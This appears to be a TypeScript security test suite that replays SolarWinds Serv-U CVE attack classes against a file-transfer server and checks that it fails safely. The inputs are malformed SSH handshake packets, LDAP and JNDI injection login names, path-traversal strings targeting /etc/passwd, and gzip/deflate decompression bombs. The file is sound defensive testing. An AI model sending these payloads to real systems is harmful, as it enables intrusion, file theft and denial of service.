/**
 * Attack corpus §2.6, SolarWinds Serv-U (rows 19–22): malformed SSH key exchange and framing
 * against the SSH stack (CVE-2021-35211), LDAP-style injection at the web login (CVE-2021-35247),
 * resource-selector parameters that read files (CVE-2024-28995) and Content-Encoding bombs
 * (CVE-2026-28318).
 */
import { describe, it, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { deflateSync, gzipSync } from 'node:zlib';
import { DIALECTS } from '../helpers/dialects.js';
import { kexinitPayload, plainPacket, rawTransport, RawSsh, str, u32 } from '../sftp/raw.js';
import { attackTarget, pool, type Target } from './harness.js';

for (const dialect of DIALECTS) {
  describe(`attacks: Serv-U (${dialect})`, () => {
    let x: Target;
    before(async () => {
      x = await attackTarget(dialect, { limits: { loginGraceMs: 2500, bannerTimeoutMs: 2500, kexTimeoutMs: 2500 } });
    });
    after(() => x?.close());

    it('CVE-2021-35211 (SERVU-1a, SERVU-1b): out-of-order handshake messages and broken framing end the connection, never the server', async () => {
      const rssBefore = process.memoryUsage().rss;
      const kex = plainPacket(kexinitPayload({ kex: ['curve25519-sha256', 'kex-strict-c-v00@openssh.com'] }));
      const len = (n: number, rest = Buffer.alloc(16)) => Buffer.concat([u32(n), rest]);
      const cases: [string, Buffer[]][] = [
        ['KEX_ECDH_INIT before KEXINIT', [plainPacket(Buffer.concat([Buffer.from([30]), str(Buffer.alloc(32, 1))]))]],
        ['two KEXINITs', [kex, kex]],
        ['NEWKEYS before the exchange', [kex, plainPacket(Buffer.from([21]))]],
        ['SERVICE_REQUEST before NEWKEYS', [kex, plainPacket(Buffer.concat([Buffer.from([5]), str('ssh-userauth')]))]],
        ['USERAUTH_REQUEST before NEWKEYS', [plainPacket(Buffer.concat([Buffer.from([50]), str('alice'), str('ssh-connection'), str('none')]))]],
        ['CHANNEL_OPEN before NEWKEYS', [plainPacket(Buffer.concat([Buffer.from([90]), str('session'), u32(0), u32(65536), u32(32768)]))]],
        [
          'GLOBAL_REQUEST tcpip-forward before NEWKEYS',
          [plainPacket(Buffer.concat([Buffer.from([80]), str('tcpip-forward'), Buffer.from([1]), str('0.0.0.0'), u32(0)]))],
        ],
        ...[0, 8, 19, 255].map((t) => [`message type ${t} first`, [plainPacket(Buffer.from([t]))]] as [string, Buffer[]]),
        ...[0, 1, 4, 5, 35000, 262144, 2 ** 31, 0xffffffff].map((n) => [`packet_length ${n}`, [len(n)]] as [string, Buffer[]]),
        ['padding_length > packet_length', [Buffer.concat([u32(12), Buffer.from([200]), Buffer.alloc(11)])]],
        ['padding_length < 4', [Buffer.concat([u32(12), Buffer.from([1]), Buffer.from([20]), Buffer.alloc(10)])]],
        ['a length not a multiple of the block size', [Buffer.concat([u32(13), Buffer.from([4]), Buffer.alloc(12)])]],
        ['a KEXINIT with 10,000 algorithm names', [plainPacket(kexinitPayload({ kex: Array.from({ length: 10_000 }, (_, i) => `k${i}@x`) }))]],
        ['a KEXINIT with empty name-lists', [plainPacket(kexinitPayload({ kex: [], hostKey: [], cipher: [], mac: [], compress: [] }))]],
        [
          'a name-list of 1 MiB',
          [Buffer.concat([u32(1024 * 1024 + 100), Buffer.from([4, 20]), Buffer.alloc(16), u32(1024 * 1024), Buffer.alloc(1024 * 1024, 'a')])],
        ],
      ];
      await pool(cases, 8, async ([what, packets]) => {
        const t = await rawTransport(x.port);
        for (const p of packets) t.sock.write(p);
        assert.ok(await t.closedWithin(6000), `${what}: the connection stayed open`);
        t.sock.destroy();
      });
      // Identification strings: too long, NUL, endless pre-banner lines.
      const idents: [string, Buffer][] = [
        ['an ident over 255 bytes', Buffer.from(`SSH-2.0-${'x'.repeat(300)}\r\n`)],
        ['NUL in the ident', Buffer.from('SSH-2.0-a\0b\r\n')],
        ['1,000 pre-banner lines', Buffer.from('junk\r\n'.repeat(1000))],
        ['SSH-1.5', Buffer.from('SSH-1.5-old\r\n')],
      ];
      await pool(idents, 4, async ([what, ident]) => {
        const t = await rawTransport(x.port, ident);
        assert.ok(await t.closedWithin(6000), `${what}: the connection stayed open`);
        t.sock.destroy();
      });
      // A KEXINIT with a non-zero reserved field, or first_kex_packet_follows with a wrong guess: refused or ignored, never a crash.
      for (const p of [
        kexinitPayload({ kex: ['curve25519-sha256'] }, { reserved: 0xdeadbeef }),
        kexinitPayload({ kex: ['diffie-hellman-group1-sha1'] }, { firstKexFollows: true }),
      ]) {
        const t = await rawTransport(x.port);
        t.sock.write(plainPacket(p));
        t.sock.write(plainPacket(Buffer.concat([Buffer.from([30]), str(Buffer.alloc(32, 2))])));
        assert.ok(await t.closedWithin(6000), 'a wrong first KEX guess or reserved bits: the connection ends');
        t.sock.destroy();
      }
      assert.ok(process.memoryUsage().rss - rssBefore < 256 * 1024 * 1024, 'memory stayed bounded');
      await x.healthy();
    });

    it('CVE-2021-35211 (SERVU-1c): a bit flipped after key exchange is a MAC failure and a disconnect', async () => {
      const c = await RawSsh.connect(x.port);
      c.tamper = (d) => {
        d[d.length - 3] = d[d.length - 3]! ^ 0x01;
        return d;
      };
      c.sendPayload(Buffer.concat([Buffer.from([2]), str('ignored')]));
      assert.equal(await c.next(6000), 'disconnect', 'a corrupted packet was accepted');
      c.close();
      await x.healthy();
    });

    it('CVE-2021-35211: host keys are made per install, never shipped (two fresh instances differ)', async () => {
      const other = await attackTarget(dialect);
      try {
        const mine = x.s.hostKeys.map((k) => k.publicKey).sort();
        const theirs = other.s.hostKeys.map((k) => k.publicKey).sort();
        assert.equal(mine.length, theirs.length);
        for (const k of mine) assert.ok(!theirs.includes(k), 'two installs share a host key');
      } finally {
        await other.close();
      }
    });

    it('CVE-2021-35247 (SERVU-2): LDAP-filter and JNDI user names at the web and SFTP sign-in are plain wrong logins', async () => {
      const before = await x.snapshot();
      const mark = await x.mark();
      const names = ['*', '*)(uid=*))(|(uid=*', 'admin)(&)', 'root\\2a', 'a\\00b', `\${jndi:ldap://127.0.0.1:${x.egress.port}/a}`, 'r'.repeat(1024)];
      for (const n of names) {
        const r = await x.http('POST', '/api/v1/auth/login', { json: { login: n, password: 'x' } });
        assert.ok(r.status === 401 || r.status === 400, `${n.slice(0, 30)}: ${r.status}`);
        x.safe(r, n.slice(0, 30));
        assert.equal(r.headers.get('set-cookie'), null);
      }
      const c = await RawSsh.connect(x.port);
      const a = await c.password('*', 'x');
      assert.ok(a === 'failure' || a === 'disconnect');
      c.close();
      await x.unchanged(before, 'LDAP-style logins');
      const ev = await x.events(mark, { action: 'auth.login' });
      assert.ok(ev.length >= names.length, 'each failed sign-in is recorded');
      assert.ok(ev.every((e) => e.outcome === 'failure'));
    });

    it('CVE-2024-28995 (SERVU-3): resource-selector parameters on every route never read a file', async () => {
      const params = [
        'InternalDir',
        'InternalFile',
        'dir',
        'file',
        'path',
        'template',
        'theme',
        'lang',
        'locale',
        'page',
        'view',
        'include',
        'res',
        'asset',
        'download',
      ];
      const values = ['/../../../../etc', 'passwd', '\\..\\..\\..\\..\\etc', x.outsideFile, `../../../..${x.outsideFile}`, '..%2f..%2f..%2fetc%2fpasswd'];
      const routes = ['/', '/healthz', '/readyz', '/api/docs', '/api/openapi.json', '/api/v1/auth/me', '/api/v1/fs/acme/inbox/', '/api/v1/fs-ops/stat'];
      const urls: string[] = [];
      for (const r of routes) for (const p of params) urls.push(`${r}?${p}=${encodeURIComponent(values[urls.length % values.length]!)}&InternalFile=passwd`);
      await pool(urls, 8, async (u) => {
        const r = await x.http('GET', u, { token: x.tokens.alice });
        x.clean(r.text, u);
        assert.ok(r.status < 500, `${u}: ${r.status}`);
      });
      assert.equal(x.egress.hits, 0);
    });

    it('CVE-2026-28318 (SERVU-4): compressed request bodies are refused with 415 before they are read; RSS stays flat', async () => {
      const before = await x.snapshot();
      const rss0 = process.memoryUsage().rss;
      const zeros = Buffer.alloc(64 * 1024 * 1024);
      const bombs: [string, Buffer][] = [
        ['deflate', deflateSync(zeros)],
        ['gzip', gzipSync(zeros)],
        ['br', Buffer.from([0x0b])],
        ['gzip, gzip', gzipSync(gzipSync(zeros))],
        ['deflate, gzip', gzipSync(zeros)],
        ['identity, x', Buffer.from('x')],
      ];
      for (const [enc, body] of bombs) {
        for (const [method, url, token] of [
          ['POST', '/api/v1/auth/login', undefined],
          ['POST', '/api/v1/fs-ops/mkdir', x.tokens.alice],
          ['PUT', '/api/v1/fs/acme/inbox/bomb.bin', x.tokens.alice],
          ['POST', '/api/v1/admin/orgs', x.tokens.root],
        ] as const) {
          const r = await x.http(method, url, { ...(token ? { token } : {}), headers: { 'content-encoding': enc, 'content-type': 'application/json' }, body });
          assert.equal(r.status, 415, `${enc} ${url}: ${r.status}`);
          x.safe(r, `${enc} ${url}`);
        }
      }
      // A Content-Length that disagrees with the body, and 10,000 one-byte chunks.
      const lie = await x.raw(
        x.rawHead('POST', '/api/v1/auth/login', { 'content-type': 'application/json', 'content-length': 5 }) + '{"login":"x","password":"y"}',
      );
      assert.ok(lie.status >= 400 && lie.status < 500, `CL lie: ${lie.status}`);
      const chunks = '1\r\na\r\n'.repeat(10_000) + '0\r\n\r\n';
      const chunked = await x.raw(
        x.rawHead('PUT', '/api/v1/fs/acme/inbox/chunks.bin', { authorization: `Bearer ${x.tokens.alice}`, 'transfer-encoding': 'chunked' }) + chunks,
      );
      assert.equal(chunked.status, 201, 'many small chunks are just a body');
      await x.http('DELETE', '/api/v1/fs/acme/inbox/chunks.bin', { token: x.tokens.alice });
      assert.ok(process.memoryUsage().rss - rss0 < 512 * 1024 * 1024, 'a bomb was inflated');
      await x.unchanged(before, 'Content-Encoding bombs');
      await x.healthy();
    });
  });
}
